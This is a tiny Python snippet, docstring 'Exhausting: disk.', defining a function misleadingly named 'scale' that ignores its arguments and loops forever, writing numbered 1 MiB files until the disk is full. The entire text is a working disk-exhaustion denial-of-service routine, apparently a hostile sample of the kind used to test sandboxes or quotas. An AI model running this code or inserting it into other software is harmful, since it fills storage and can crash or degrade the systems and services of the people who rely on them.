"""Exhausting: disk."""

def scale(x, n):
    number = 0
    while True:
        number += 1
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
